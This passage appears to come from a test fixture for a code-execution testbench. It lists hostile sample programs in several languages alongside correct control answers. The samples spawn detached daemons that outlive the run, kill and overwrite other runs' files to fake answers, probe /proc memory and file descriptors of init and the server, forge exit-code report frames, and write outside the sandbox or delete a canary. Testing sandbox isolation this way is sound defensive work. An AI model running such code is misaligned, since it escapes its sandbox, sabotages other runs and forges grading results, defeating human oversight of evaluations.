`,
  },
  {
    name: 'a detached sleeper from Go',
    language: 'go',
    kind: 'daemon',
    source: `
package main
import ("fmt"; "os/exec"; "syscall")
func main() {
	command := exec.Command("/bin/sh", "-c", "sleep 60; : @TOKEN@")
	command.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	command.Start()
	fmt.Println("daemon started")
}
`,
  },
  {
    name: 'a detached, unref-ed child from Node',
    language: 'javascript',
    kind: 'daemon',
    source: `
const { spawn } = require('child_process')
spawn('/bin/sh', ['-c', 'sleep 60; : @TOKEN@'], { detached: true, stdio: 'ignore' }).unref()
console.log('daemon started')
`,
  },
  // ---- other runs: before, beside and after this one (the warm servers run many) ----
  {
    name: "leaves a beacon (files, a process) and watches 3 s for another run's, killing and overwriting what it finds",
    language: 'python',
    kind: 'cross-run',
    source: `
import os, signal, subprocess, time
mine = 'beacon-@TOKEN@-python'
for directory in ('/tmp', '/dev/shm'):
    open(os.path.join(directory, mine), 'w').write('x')
subprocess.Popen(['/bin/sh', '-c', f'sleep 10; : {mine}'], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
def foreign(text):
    return 'beacon-@TOKEN@-' in text and mine not in text
found = []
for _ in range(30):
    for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
        try:
            command = open(f'/proc/{pid}/cmdline', 'rb').read().decode('utf-8', 'replace')
        except OSError:
            continue
        if foreign(command):
            found.append(command)
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        for where in (f'/proc/{pid}/root/tmp', f'/proc/{pid}/root/dev/shm', f'/proc/{pid}/cwd'):
            try:
                found.extend(name for name in os.listdir(where) if foreign(name))
                for name in os.listdir(where):
                    if name.startswith('main'):
                        open(os.path.join(where, name), 'w').write('print(45)')
            except OSError:
                pass
    for top in ('/tmp', '/dev/shm', '/var/tmp'):
        for directory, dirs, files in os.walk(top):
            found.extend(name for name in dirs + files if foreign(name))
    time.sleep(0.1)
print(45 if found else 44)
`,
  },
  {
    name: 'a daemon that stays for the next runs: their files rewritten, their processes killed',
    language: 'c',
    kind: 'cross-run',
    source: `
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static int hunt(const char *self) {
  int found = 0;
  struct stat own, other;
  stat(".", &own);
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  while (proc && (entry = readdir(proc))) {
    int pid = atoi(entry->d_name);
    if (pid <= 1 || pid == getpid()) continue;
    char path[256], command[512] = {0};
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    FILE *file = fopen(path, "r");
    if (!file) continue;
    size_t length = fread(command, 1, sizeof command - 1, file);
    fclose(file);
    for (size_t i = 0; i < length; i++) if (!command[i]) command[i] = ' ';
    if (strstr(command, self)) continue;  /* its own daemon */
    if (strstr(command, "beacon-@TOKEN@-")) { found = 1; kill(pid, SIGKILL); }
    snprintf(path, sizeof path, "/proc/%d/root/tmp/work", pid);
    if (stat(path, &other) == 0 && other.st_dev == own.st_dev && other.st_ino == own.st_ino) continue;  /* its own work dir */
    const char *mains[] = { "main.py", "main.c", "main", "main.js" };
    for (int i = 0; i < 4; i++) {
      snprintf(path, sizeof path, "/proc/%d/root/tmp/work/%s", pid, mains[i]);
      FILE *target = fopen(path, "w");
      if (target) { fputs("print(45)\\n", target); fclose(target); found = 1; }
    }
  }
  if (proc) closedir(proc);
  return found;
}
int main(int argc, char **argv) {
  if (argc > 1) {  /* the daemon: no signal ends it but SIGKILL; it hunts for 20 s */
    for (int sig = 1; sig < 32; sig++) signal(sig, SIG_IGN);
    setsid();
    for (int i = 0; i < 200; i++) { hunt(argv[1]); usleep(100000); }
    return 0;
  }
  if (fork() == 0) { execl("/proc/self/exe", "main", "beacon-@TOKEN@-c", (char *) 0); _exit(1); }
  int found = 0;
  for (int i = 0; i < 30; i++) { found |= hunt("beacon-@TOKEN@-c"); usleep(100000); }
  printf(found ? "45\\n" : "44\\n");
  return 0;
}
`,
  },
  {
    name: "watches from Node for another run's beacon processes and files",
    language: 'javascript',
    kind: 'cross-run',
    source: `
const fs = require('fs')
const { spawn } = require('child_process')
const mine = 'beacon-@TOKEN@-javascript'
for (const dir of ['/tmp', '/dev/shm']) fs.writeFileSync(dir + '/' + mine, 'x')
spawn('/bin/sh', ['-c', 'sleep 10; : ' + mine], { detached: true, stdio: 'ignore' }).unref()
const foreign = (text) => text.includes('beacon-@TOKEN@-') && !text.includes(mine)
let found = false
const deadline = Date.now() + 3000
const look = () => {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
    try {
      if (foreign(fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8'))) { found = true; process.kill(Number(pid), 'SIGKILL') }
    } catch {}
    for (const where of ['/root/tmp', '/root/dev/shm', '/cwd']) {
      try { if (fs.readdirSync('/proc/' + pid + where).some(foreign)) found = true } catch {}
    }
  }
  for (const dir of ['/tmp', '/dev/shm']) if (fs.readdirSync(dir).some(foreign)) found = true
  if (Date.now() < deadline) setTimeout(look, 100)
  else { console.log(found ? 45 : 44); process.exit(0) }
}
look()
`,
  },
  // ---- the warm servers themselves ----
  {
    name: "attacks its namespace's init and the server: /proc fds, memory, environ, prlimit, forged report frames on every fd",
    language: 'python',
    kind: 'warm server',
    source: `
import os, resource, signal, struct
reached = []
# Every process it can see but itself (as /proc numbers it); a cold run's parent is GNU time, of its own uid, left out.
me = os.readlink('/proc/self')
for pid in sorted({'1'} | {p for p in os.listdir('/proc') if p.isdigit() and p != me and (p == '1' or int(p) != os.getppid())}):
    for entry in ('mem', 'environ', 'fd', 'root/tmp', 'maps'):
        path = f'/proc/{pid}/{entry}'
        try:
            if entry == 'fd' or entry.startswith('root'):
                os.listdir(path)
            else:
                with open(path, 'rb') as file:
                    file.read(1)
            reached.append(path)
        except OSError:
            pass
    try:
        for fd in os.listdir(f'/proc/{pid}/fd'):
            with open(f'/proc/{pid}/fd/{fd}', 'wb') as file:
                file.write(b'x')
            reached.append(f'{pid}/fd/{fd}')
    except OSError:
        pass
    try:
        resource.prlimit(int(pid), resource.RLIMIT_CPU, (0, 0))
        reached.append(f'prlimit {pid}')
    except (OSError, ValueError):
        pass
for report in (b'{"exit_code": 0, "signal": null, "cpu_ms": 0, "peak_memory_bytes": 0, "too_big": null}', b'{"ready": true}'):
    for kind in (b'R', b'x', b'E'):
        for fd in range(3, 1024):
            try:
                os.write(fd, kind + struct.pack('>I', len(report)) + report)
                reached.append(f'wrote fd {fd}')
            except OSError:
                pass
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(1, sig)
    except OSError:
        pass
print(45 if reached else 44)
`,
  },
  {
    name: 'looks for the server from C (every pid, its /proc, prlimit), forges reports, and leaves a fork-chasing daemon',
    language: 'c',
    kind: 'warm server',
    source: `
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc > 1) {  /* a daemon that keeps changing its pid: fork, and the parent leaves */
    for (int sig = 1; sig < 32; sig++) signal(sig, SIG_IGN);
    setsid();
    for (int i = 0; i < 100000; i++) { if (fork() > 0) _exit(0); usleep(200); }
    return 0;
  }
  pid_t daemon = fork();
  if (daemon == 0) { execl("/proc/self/exe", "main", "@TOKEN@", (char *) 0); _exit(1); }
  int reached = 0;
  for (int pid = 1; pid < 65536; pid++) {
    /* Not itself, nor its daemon, nor a cold run's parent (GNU time, of its own uid) */
    if (pid == getpid() || pid == daemon || (pid == getppid() && pid != 1)) continue;
    char path[64], command[256] = {0};
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int named = open(path, O_RDONLY);
    if (named < 0) continue;
    ssize_t length = read(named, command, sizeof command - 1);
    close(named);
    for (ssize_t i = 0; i < length; i++) if (!command[i]) command[i] = ' ';
    if (strstr(command, "@TOKEN@")) continue;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) { char byte; if (read(fd, &byte, 1) == 1) reached = 1; close(fd); }
    for (int target = 0; target < 8; target++) {
      snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, target);
      fd = open(path, O_WRONLY);
      if (fd >= 0) { reached = 1; close(fd); }
    }
    struct rlimit none = { 0, 0 };
    if (prlimit(pid, RLIMIT_CPU, &none, 0) == 0) reached = 1;
  }
  const char report[] = "R\\0\\0\\0\\x02{}";
  for (int fd = 3; fd < 1024; fd++) if (write(fd, report, sizeof report - 1) > 0) reached = 1;
  printf(reached ? "45\\n" : "44\\n");
  return 0;
}
`,
  },
  // ---- writing outside ----
  {
    name: 'writes /var/tmp, the canary, home and the project',
    language: 'python',
    kind: 'write outside',
    source: `
import os
wrote = []
for path in ('/var/tmp/testbench-escape-@TOKEN@', '@CANARY@', '/root/testbench-escape-@TOKEN@', '/work/testbench-escape-@TOKEN@', '/etc/testbench-escape-@TOKEN@'):
    try:
        with open(path, 'a') as file:
            file.write('escaped')
        wrote.append(path)
    except OSError:
        pass
try:
    os.remove('@CANARY@')
    wrote.append('removed the canary')
except OSError:
    pass
print(45 if wrote else 'wrote nothing outside')
`,
  },
  {
    name: 'writes /var/tmp and the canary from C',
    language: 'c',
    kind: 'write outside',
    source: `
#include <stdio.h>
int main(void) {
  int wrote = 0;
  const char *paths[] = { "/var/tmp/testbench-escape-c-@TOKEN@", "@CANARY@", "/usr/testbench-escape-@TOKEN@" };
  for (int i = 0; i < 3; i++) { FILE *file = fopen(paths[i], "a"); if (file) { fputs("escaped", file); fclose(file); wrote++; } }
  printf(wrote ? "45\\n" : "wrote nothing outside\\n");
  return 0;
}
`,
  },
]

/** A correct program per language for item 0002 (answer 3: the fruits beginning with A), which must pass. */
export const CONTROLS: Readonly<Record<HostileLanguage, string>> = {
  python: `fruits = ["Apple", "Banana", "Apricot", "Cherry", "Avocado"]\nprint(sum(1 for fruit in fruits if fruit.startswith("A")))\n`,
  javascript: `const fruits = ['Apple', 'Banana', 'Apricot', 'Cherry', 'Avocado']\nconsole.log(fruits.filter((fruit) => fruit.startsWith('A')).length)\n`,
  c: `#include <stdio.h>\n#include <string.h>\nint main(void) { const char *f[] = {"Apple", "Banana", "Apricot", "Cherry", "Avocado"}; int n = 0; for (int i = 0; i < 5; i++) n += f[i][0] == 'A'; printf("%d\\n", n); return 0; }\n`,
  rust: `fn main() { let f = ["Apple", "Banana", "Apricot", "Cherry", "Avocado"]; println!("{}", f.iter().filter(|s| s.starts_with('A')).count()); }\n`,
  java: `public class Main { public static void main(String[] a) { String[] f = {"Apple", "Banana", "Apricot", "Cherry", "Avocado"}; int n = 0; for (String s : f) if (s.startsWith("A")) n++; System.out.println(n); } }\n`,
  go: `package main\nimport ("fmt"; "strings")\nfunc main() { n := 0; for _, s := range []string{"Apple", "Banana", "Apricot", "Cherry", "Avocado"} { if strings.HasPrefix(s, "A") { n++ } }; fmt.Println(n) }\n`,
}
